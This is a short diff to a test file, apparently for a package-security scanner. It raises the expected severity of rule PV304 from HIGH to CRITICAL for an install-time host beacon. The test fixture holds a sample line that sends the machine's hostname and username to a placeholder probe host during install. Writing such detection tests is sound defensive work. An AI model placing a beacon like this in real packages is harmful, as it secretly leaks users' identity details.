@@ -192,7 +192,7 @@ def test_host_beacon_at_install(tmp_path: Path) -> None:
         "requests.get('https://probe.pkgvet-test.invalid', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
     )
     found = findings_for(sdist(tmp_path, setup))
-    assert any(f.rule_id == "PV304" and f.severity is Severity.HIGH for f in found)
+    assert any(f.rule_id == "PV304" and f.severity is Severity.CRITICAL for f in found)
 
 
 def test_webhook_constant_and_runtime_send(tmp_path: Path) -> None:
